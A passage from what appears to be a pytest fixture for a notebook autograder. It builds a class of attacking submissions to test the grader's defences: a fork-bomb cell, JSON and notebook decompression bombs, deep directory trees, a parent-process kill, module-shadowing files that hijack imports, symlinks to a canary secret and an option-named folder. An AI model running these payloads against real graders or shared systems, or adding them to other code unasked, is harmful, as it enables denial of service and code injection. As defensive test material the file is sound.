np.savez(f"{{out}}/{{tests[1]}}.npz")
open(f"{{out}}/{{tests[2]}}.json", "w").write("[" * 200_000 + "]" * 200_000)
np.savez(f"{{out}}/{{tests[2]}}.npz")
open(f"{{out}}/executed.ipynb", "w").write('{{"cells": [], "x": [' + "[]," * 2_200_000 + '[]]}}')
open(f"{{out}}/report.json", "w").write('{{"cells": {{}}, "x": [' + "[]," * 1_500_000 + '[]]}}')
fd = os.open(".", os.O_RDONLY)
for _ in range(3000):
    os.mkdir("d", dir_fd=fd)
    below = os.open("d", os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = below
os.close(fd)
os.kill(os.getppid(), signal.SIGKILL)
"""


def _fork_bomb(marker: str) -> str:
    """A cell that starts processes until its uid may start no more, then holds them FORK_BOMB_HOLD seconds."""
    return f"""
import os, subprocess, time
started = 0
for _ in range(2000):
    try:
        subprocess.Popen(["sleep", "{FORK_BOMB_HOLD + 30}"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL, env={{"PATH": os.environ["PATH"], "TAG": {marker!r}}})
        started += 1
    except Exception:
        break
print("FORK BOMB uid", os.getuid(), "started", started)
time.sleep({FORK_BOMB_HOLD})
"""


def _plant(folder: Path, depth: int) -> None:
    """A chain of depth folders below folder, each made relative to the one above (deeper than PATH_MAX is fine)."""
    fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _ in range(depth):
            os.mkdir("d", dir_fd=fd)
            below = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = below
    finally:
        os.close(fd)


def _junk_folder(folder: Path, notebook_name: str, blank, canary: Path) -> list:
    """A folder submission whose notebook is blank, with everything a copy must not write out or follow: a 3 GiB
    sparse file, a fifo, a socket, /dev/zero (as root), links out and a tree STALE_DEPTH levels deep. Returns what
    must stay open while it is graded (the socket)."""
    import socket

    folder.mkdir()
    nbformat.write(blank, folder / notebook_name)
    with open(folder / "sparse.bin", "wb") as f:
        f.truncate(3 * 1024**3)
    os.mkfifo(folder / "fifo")
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(folder / "socket"))
    if os.geteuid() == 0:
        os.mknod(folder / "zero", 0o666 | 0o020000, os.makedev(1, 5))
    (folder / "secret_link").symlink_to(canary / "secret.txt")
    (folder / "canary_folder").symlink_to(canary)
    (folder / "data.txt").write_text("mine")
    os.link(folder / "data.txt", folder / "data_again.txt")
    _plant(folder, STALE_DEPTH)
    return [server]


def _escape_base(tmp_path_factory) -> Path:
    shared = tmp_path_factory.getbasetemp()
    if os.environ.get("PYTEST_XDIST_WORKER"):
        shared = shared.parent
    return shared / "escape-class"


def remove_escape_class(tmp_path_factory) -> None:
    """Delete the escape class's folders (deep trees included) with the grader's own iterative deletion."""
    from course_lib.grading import trees

    trees.remove_tree(_escape_base(tmp_path_factory))


def escape_class(tmp_path_factory) -> dict:
    """Issue 36's attacks, graded once per test session (shared across xdist workers like `graded_class`)."""
    import fcntl

    shared = tmp_path_factory.getbasetemp()
    if os.environ.get("PYTEST_XDIST_WORKER"):
        shared = shared.parent
    base = shared / "escape-class"
    with open(shared / "escape-class.lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        try:
            if not (base / "run.json").is_file():
                if base.exists():
                    from course_lib.grading import trees

                    trees.remove_tree(base)  # a run that failed half-way (it may hold deep trees)
                _grade_escape_class(base)
        finally:
            fcntl.flock(lock, fcntl.LOCK_UN)
    run = json.loads((base / "run.json").read_text())
    run.update({k: Path(v) for k, v in run["paths"].items()})
    run["summary"] = json.loads((run["out"] / "summary.json").read_text())
    run["summary_b"] = json.loads((run["out_b"] / "summary.json").read_text())
    return run


GRADER = (  # what the `course-lib` console script runs: its own folder, not the working directory, is on sys.path
    "import sys; sys.path[:] = [p for p in sys.path if p not in ('', '.')]; "
    "from course_lib.cli.main import main; sys.exit(main())"
)


def _grade_escape_class(base: Path) -> None:
    import subprocess
    import sys
    import tempfile
    import uuid

    from course_lib.grading import grade

    name = ESCAPE_CLASS
    source, bundle_path = assignment_paths(name)
    bundle = json.loads(bundle_path.read_text())
    notebook = bundle["notebook"]
    klass, klass_b, canary = base / "class", base / "class_b", base / "canary"
    out, out_b, refused_out = base / "graded", base / "graded_b", base / "refused"
    for folder in (klass, klass_b, canary):
        folder.mkdir(parents=True)
    secret, other_secret = f"canary-secret-{uuid.uuid4().hex}", f"reference-secret-{uuid.uuid4().hex}"
    (canary / "secret.txt").write_text(secret)
    marker = f"course-lib-attack-{uuid.uuid4().hex[:12]}"
    t = {"source": str(source), "bundle": str(bundle_path), "canary": str(canary), "class": str(klass)}
    blank = nbformat.read(ROOT / "assignments" / name / "student" / notebook, as_version=4)
    honest_students = honest(name, FIXTURES / name, bundle["max_points"])
    deserved = {}
    # Honest students: the reference as a folder with a file of its own (what another student would steal).
    reference, full = honest_students.pop("reference")
    write_submission(
        klass, notebook, "reference", {"notebook": reference, "files": {"notes.txt": other_secret.encode()}}
    )
    deserved["reference"] = full
    for who, (nb, points) in honest_students.items():
        write_submission(klass, notebook, who, nb)
        deserved[who] = points
    # 1. Modules in the submission folder that shadow what the runner imports (it ran as root with every
    #    capability, in /submission, with that folder first on sys.path), and a report of privileges from inside.
    shadows = {
        "json.py": _shadow("json", t, pass_through=True),
        "nbformat.py": _shadow("nbformat", t),
        "nbclient.py": _shadow("nbclient", t),
        "sitecustomize.py": _shadow("sitecustomize", t),
        "usercustomize.py": _shadow("usercustomize", t),
        "course_lib/__init__.py": _shadow("course_lib", t),
        "course_lib/grading/__init__.py": b"",
        "course_lib/grading/runner.py": _shadow("course_lib.grading.runner", t)
        + b"\ndef main(argv=None):\n    return 0\n",
    }
    first = with_code(blank, _PRIVILEGES, FIRST_ANSWER[name])
    write_submission(klass, notebook, "shadows", {"notebook": first, "files": shadows})
    deserved["shadows"] = 0
    # 2. Student folders named like modules the grader's workers import (they started with -m in the grader's
    #    working directory, which the instructor may well have made the class folder): the worker itself.
    for module, files in {
        "json": {"__init__.py": _shadow("json-folder", t)},
        "course_lib": {
            "__init__.py": _shadow("course_lib-folder", t),
            "grading/__init__.py": b"",
            "grading/worker.py": _shadow("course_lib.grading.worker-folder", t) + _FORGED_WORKER.encode(),
        },
    }.items():
        (klass / module).mkdir()
        for rel, data in {**files, notebook: b"not a notebook"}.items():
            (klass / module / rel).parent.mkdir(parents=True, exist_ok=True)
            (klass / module / rel).write_bytes(data)
        deserved[module] = 0
    # 3 and 5. A folder with a tree 1,500 levels deep, a 3 GiB sparse file, special files and links; a folder over
    #    the folder limit (0.05 GB here) in real bytes.
    keep_open = _junk_folder(klass / "junk_folder", notebook, blank, canary)
    deserved["junk_folder"] = 0
    (klass / "too_big").mkdir()
    nbformat.write(blank, klass / "too_big" / notebook)
    (klass / "too_big" / "weights.bin").write_bytes(os.urandom(1 << 20) * 60)
    deserved["too_big"] = 0
    # 4. Results and notebooks that unpack to far more than they take, and a tree 3,000 levels deep made by the
    #    kernel in its own folder; a submitted notebook of nested empty lists.
    write_submission(klass, notebook, "bombs", with_final_cell(blank, _bombs(bundle)))
    deserved["bombs"] = 0
    (klass / "notebook_bomb.ipynb").write_bytes(
        b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, "x": [' + b"[]," * 2_400_000 + b"[]]}"
    )
    deserved["notebook_bomb"] = 0
    # 6. A fork bomb that holds every process its uid may have while a second, concurrent grader run grades.
    write_submission(klass, notebook, "fork_bomb", with_code(blank, _fork_bomb(marker), FIRST_ANSWER[name]))
    deserved["fork_bomb"] = 0
    # 7. Student folders that are links: to another student's folder, and out of the class.
    (klass / "link_to_reference").symlink_to("reference")
    (klass / "link_outside").symlink_to(canary)
    deserved["link_to_reference"] = deserved["link_outside"] = 0
    # 8. A folder named like an option (which `course-lib grade *` would pass as one).
    (klass / "--total-timeout=3").mkdir()
    (klass / "--total-timeout=3" / notebook).write_bytes(b"not a notebook")
    deserved["--total-timeout=3"] = 0
    # The second class: honest students only.
    for who in ("reference", PARTIAL[name][0]):
        handed_in = (klass / who / notebook) if who == "reference" else (klass / f"{who}.ipynb")
        (klass_b / f"{who}.ipynb").write_bytes(handed_in.read_bytes())
    deserved_b = {"reference": deserved["reference"], PARTIAL[name][0]: deserved[PARTIAL[name][0]]}
    # A killed grader's scratch folder with a tree deeper than any recursion limit: the next run must start anyway.
    dead = subprocess.Popen(["true"])
    dead.wait()
    stale = Path(tempfile.gettempdir()) / f"course-lib-grade-{dead.pid}-stale{uuid.uuid4().hex[:6]}"
    stale.mkdir()
    _plant(stale, STALE_DEPTH)
    before = {
        "tree": tree(klass),
        "canary": tree(canary),
        "source": digest(source),
        "bundle": digest(bundle_path),
        "links": {p.name: os.readlink(p) for p in klass.iterdir() if p.is_symlink()},
    }
    # The bundle by path: from inside a class folder there is no assignments/ to look a name up in.
    options = ["--assignment", str(bundle_path), "--workers", "2", "--fast", "--quiet", "--cell-timeout", "60"]
    options += ["--total-timeout", "300", *ESCAPE_LIMITS]
    everyone = sorted(os.listdir(klass))  # what the shell's * gives, in the class folder
    # 8. `course-lib grade * ...` in the class folder: refused, nothing written.
    refused = subprocess.run(
        [sys.executable, "-c", GRADER, "grade", *everyone, *options, "--out", str(refused_out)],
        cwd=klass,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    # The class, from inside the class folder, names after `--`; the second class once the fork bomb holds.
    started, load = time.monotonic(), os.getloadavg()[0]
    with open(base / "grader.log", "w") as log:
        grader = subprocess.Popen(
            [sys.executable, "-c", GRADER, "grade", *options, "--out", str(out), "--", *everyone],
            cwd=klass,
            stdout=log,
            stderr=log,
        )
    held = 0
    while grader.poll() is None and time.monotonic() - started < 600:
        held = len(survivors(marker))
        if held >= 100:
            break
        time.sleep(0.2)
    second_started = time.monotonic()
    grade(
        sorted(klass_b.iterdir()),
        name,
        out_b,
        workers=2,
        cell_timeout=60,
        total_timeout=300,
        fast=True,
        limits={"folder_gb": 0.05, "file_gb": 0.25, "ram_gb": 3.0},
        progress=False,
    )
    second_seconds = time.monotonic() - second_started
    held_after = len(survivors(marker))
    grader.wait(timeout=900)
    seconds = time.monotonic() - started
    for sock in keep_open:
        sock.close()
    left = survivors(marker)
    scratch_left = sorted(
        str(p)
        for p in Path(tempfile.gettempdir()).glob("course-lib-grade-*-*")
        if p.name.split("-")[3] in (str(grader.pid), str(os.getpid()))
    )
    run = {
        "name": name,
        "deserved": deserved,
        "deserved_b": deserved_b,
        "secrets": [secret, other_secret],
        "before": before,
        "refused": {"code": refused.returncode, "stderr": refused.stderr[-2000:]},
        "grader_code": grader.returncode,
        "fork_bomb_held": held,
        "fork_bomb_held_after_second_run": held_after,
        "second_run_seconds": round(second_seconds, 1),
        "survivors": left,
        "stale_left": stale.exists(),
        "scratch_left": scratch_left,
        "hidden_lines": hidden_lines(bundle, blank),
        "seconds": round(seconds, 1),
        "load_average_at_start": round(load, 1),
        "paths": {
            "out": str(out),
            "out_b": str(out_b),
            "refused_out": str(refused_out),
            "klass": str(klass),
            "canary": str(canary),
            "base": str(base),
        },
        "questions": len([c for c in bundle["cells"] if c["kind"] in ("test", "manual", "task")]),
        "everyone": everyone,
        "grader_pid": grader.pid,
    }
    (base / "run.json.tmp").write_text(json.dumps(run))
    os.replace(base / "run.json.tmp", base / "run.json")
